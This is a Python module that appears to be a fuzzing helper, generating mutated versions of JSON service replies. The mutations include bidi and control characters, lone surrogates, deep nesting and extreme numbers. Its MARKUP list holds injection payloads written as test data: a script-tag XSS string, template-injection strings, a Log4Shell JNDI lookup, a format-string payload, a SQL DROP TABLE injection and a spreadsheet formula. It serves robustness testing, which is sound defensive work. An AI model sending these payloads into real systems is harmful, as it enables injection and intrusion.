"""Mutants of an answer: what a service, or somebody in its place, might send instead of it.

Everything is a JSON tree as :func:`cortex_grow.net.reply.parse_json` hands it on (numbers of up to 4,300 digits, at
most 200 levels), lone surrogates besides. A mutant shares what was not changed with its original.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random
from typing import Any

BIDI = ["\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u061c"]
CONTROL = ["\x00", "\x1b[31m", "\r\n", "\x07", "\x7f", "\x85", "\u2028"]
SURROGATE = "\ud800"
MARKUP = [
    "<script>alert(1)</script>",
    "<!DOCTYPE html><html><body>Sign in</body></html>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/x}",
    "%s%n{0}",
    "'; DROP TABLE x; --",
    "javascript:alert(1)",
    "=1+1",
]
WORDS = ["", " ", ".", "..", "*", "*.", "@", "://", "-", "0", "null", "None", "NaN", "true", "\N{SNOWMAN}", "İ", "ß"]
HOSTS = ["localhost", "127.0.0.1", "[::1]", "999.1.1.1", "a..b", "xn--a", "com", "www.virustotal.com", "10.0.0.1"]
TIMES = ["9999-99-99", "0000-00-00 00:00:00", "2019-02-30T25:61:61Z", "2019-01-01T00:00:00+99:99", "now"]
NUMBERS: list[Any] = [0, -1, 1, 2**31, 2**63, 2**64, -(2**63), 10**400, -(10**30), 1e308, -1e-308, 0.5, 253402300800000]
DEEP = 150


def deep(kind: type) -> Any:
    """A tree of many levels."""
    tree: Any = "end"
    for _ in range(DEEP):
        tree = {"data": tree} if kind is dict else [tree]
    return tree


def hostile(chance: Random) -> Any:
    """Something that stands where it should not."""
    kind = chance.randrange(14)
    if kind == 0:
        return chance.choice((None, True, False))
    if kind == 1:
        return chance.choice(NUMBERS)
    if kind == 2:
        return chance.choice(WORDS)
    if kind == 3:
        return chance.choice(BIDI) + "fdp.exe"
    if kind == 4:
        return "a" + chance.choice(CONTROL) + "b"
    if kind == 5:
        return f"x{SURROGATE}y"
    if kind == 6:
        return chance.choice(MARKUP)
    if kind == 7:
        return chance.choice(("x", "a.", "é", "1", "\u202e")) * chance.choice((300, 5000, 70000))
    if kind == 8:
        return chance.choice(HOSTS)
    if kind == 9:
        return chance.choice(TIMES)
    if kind == 10:
        return chance.choice(([], {}, [[]], [None] * 5, {"": None}, [{}], {"data": []}))
    if kind == 11:
        return deep(chance.choice((dict, list)))
    if kind == 12:
        return f"http://{chance.choice(HOSTS)}/{chance.choice(MARKUP)}"
    return ["x"] * chance.choice((1, 3, 2000))


def _text(chance: Random, text: str) -> Any:
    """A text that is nearly what it was."""
    at = chance.randrange(len(text) + 1)
    wedge = chance.choice((*BIDI, *CONTROL, *MARKUP, *WORDS, SURROGATE))
    return chance.choice(
        (
            text[:at] + wedge + text[at:],
            text[:at],
            text.upper(),
            text + text,
            [text],
            {"value": text},
            f" {text}\n",
            text.replace(".", "[.]").replace("http", "hxxp"),
            text.encode("utf-8", "replace").decode("latin-1"),
            len(text),
        )
    )


def _list(chance: Random, items: list[Any]) -> Any:
    some = list(items)
    chance.shuffle(some)
    return chance.choice(
        (
            [],
            items[: len(items) // 2],
            items * 3,
            [items],
            [hostile(chance), *items],
            [*items, None, *items[:2]],
            some,
            {str(at): item for at, item in enumerate(items)},
            items[0] if items else None,
        )
    )


def _dict(chance: Random, members: dict[str, Any]) -> Any:
    names = list(members)
    name = chance.choice(names) if names else "x"
    other = chance.choice(names) if names else "y"
    odd = chance.choice(
        (f"{name}{chance.choice(BIDI)}", f"{name}\x00", chance.choice(MARKUP), "__class__", name.upper(), "")
    )
    return chance.choice(
        (
            {},
            {key: value for key, value in members.items() if key != name},
            {**members, odd: members.get(name)},
            {**members, "unknown_member": hostile(chance)},
            {**members, name: members.get(other), other: members.get(name)},
            list(members.values()),
            [members],
            {"data": members},
            {**members, name: None},
        )
    )


def _changed(chance: Random, value: Any) -> Any:
    """Another value in the place of this one: near it, or anything."""
    if chance.random() < 0.4:
        return hostile(chance)
    if isinstance(value, str):
        return _text(chance, value)
    if isinstance(value, list):
        return _list(chance, value)
    if isinstance(value, dict):
        return _dict(chance, value)
    if isinstance(value, bool) or value is None:
        return hostile(chance)
    return chance.choice((str(value), -value, value * 1000, [value], *NUMBERS))


def _at_random(chance: Random, tree: Any, change: Callable[[Any], Any], depth: int = 0) -> Any:
    """A copy of a tree, changed at one random place; places deep down are as likely as those above."""
    if isinstance(tree, dict) and tree and (depth == 0 or chance.random() < 0.85):
        name = chance.choice(list(tree))
        return {**tree, name: _at_random(chance, tree[name], change, depth + 1)}
    if isinstance(tree, list) and tree and (depth == 0 or chance.random() < 0.85):
        at = chance.randrange(len(tree))
        return [*tree[:at], _at_random(chance, tree[at], change, depth + 1), *tree[at + 1 :]]
    return change(tree)


def _everywhere(chance: Random, tree: Any, share: float, change: Callable[[Any], Any]) -> Any:
    """A copy of a tree with a share of its texts and numbers changed in the same way."""
    if isinstance(tree, dict):
        return {name: _everywhere(chance, value, share, change) for name, value in tree.items()}
    if isinstance(tree, list):
        return [_everywhere(chance, value, share, change) for value in tree]
    return change(tree) if not isinstance(tree, bool) and tree is not None and chance.random() < share else tree


def _flood(chance: Random, tree: Any) -> Any:
    """One kind of flaw in many places at once: whole feeds come in another type, or with what turns lines around."""
    wedge = chance.choice((*BIDI, *CONTROL, *MARKUP, SURROGATE, " ", ".", "\N{SNOWMAN}"))
    number = chance.choice(NUMBERS)

    def change(value: Any) -> Any:
        if not isinstance(value, str):
            return number if number_too else str(value)
        return value + wedge if behind else value[:1] + wedge + value[1:]

    number_too, behind = chance.random() < 0.5, chance.random() < 0.5
    return _everywhere(chance, tree, chance.choice((0.02, 0.2, 1.0)), change)


def mutants(tree: Any, chance: Random, count: int) -> Iterator[Any]:
    """``count`` mutants of a tree, of one to thirty changes each; now and then the whole of it is something else."""
    for _ in range(count):
        if chance.random() < 0.05:
            yield _changed(chance, tree)
            continue
        mutant = _flood(chance, tree) if chance.random() < 0.3 else tree
        for _ in range(chance.choice((1, 1, 2, 4, 10, 30))):
            mutant = _at_random(chance, mutant, lambda value: _changed(chance, value))
        yield mutant
